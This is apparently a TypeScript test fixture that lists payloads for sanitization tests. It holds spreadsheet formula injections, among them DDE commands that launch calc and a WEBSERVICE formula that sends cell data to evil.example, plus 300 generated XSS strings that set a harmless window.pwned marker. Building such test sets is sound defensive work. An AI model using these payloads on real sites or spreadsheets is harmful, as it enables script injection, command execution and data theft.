/** What spreadsheets would run (RELIABILITY S14). */
export const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1;1)',
  '=HYPERLINK("http://evil.example";"hier")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://evil.example/"&A1)',
  '-2+3+cmd|" /C calc"!A0',
  '﹦1+1',
  '−1+1',
  '|calc',
] as const;

/** What browsers would run, each by another way in; all of them set `window.pwned` (RELIABILITY S2). */
const RUNNING = [
  '<script>top.pwned=1</script>',
  '<ScRiPt src="data:text/javascript,top.pwned=1"></ScRiPt>',
  '<img src=x onerror=top.pwned=1>',
  '<img src="x` `onerror=top.pwned=1">',
  '<svg onload=top.pwned=1>',
  '<svg><script>top.pwned=1</script></svg>',
  '<svg><animate onbegin=top.pwned=1 attributeName=x dur=1s>',
  '<iframe srcdoc="<script>top.pwned=1</script>"></iframe>',
  '<iframe src="javascript:top.pwned=1"></iframe>',
  '<body onload=top.pwned=1>',
  '<details open ontoggle=top.pwned=1>',
  '<video><source onerror=top.pwned=1></video>',
  '<input autofocus onfocus=top.pwned=1>',
  '<textarea autofocus onfocus=top.pwned=1>',
  '<marquee onstart=top.pwned=1>',
  '<math><mtext><table><mglyph><style><img src=x onerror=top.pwned=1>',
  '<a href="javascript:top.pwned=1" autofocus onfocus=top.pwned=1>x</a>',
  '[x](javascript:top.pwned=1)',
  '[x](JaVa&#x0A;ScRiPt:top.pwned=1)',
  '[x](data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==)',
  '![x](x"onerror="top.pwned=1)',
  '![x](javascript:top.pwned=1)',
  '<javascript:top.pwned=1>',
  '<object data="data:text/html,<script>top.pwned=1</script>"></object>',
  '<meta http-equiv=refresh content="0;url=javascript:top.pwned=1">',
  '<form action=javascript:top.pwned=1><button autofocus onfocus=top.pwned=1>',
  '<style onload=top.pwned=1></style>',
  '<template shadowrootmode=open><img src=x onerror=top.pwned=1></template>',
  "{{constructor.constructor('top.pwned=1')()}}",
  '"onmouseover="top.pwned=1" autofocus onfocus="top.pwned=1" x="',
] as const;

/** What ends the place where somebody's words stand: an attribute, a script, a comment, a text for a program. */
const ENDING = ['', '">', "'>", '</title>', '</script>', '</textarea>', '-->', ']]>', '\\u003c/script>', '&lt;/p&gt;'];

/** 300 of them. */
export const injections: readonly string[] = ENDING.flatMap((ending) => RUNNING.map((running) => ending + running));
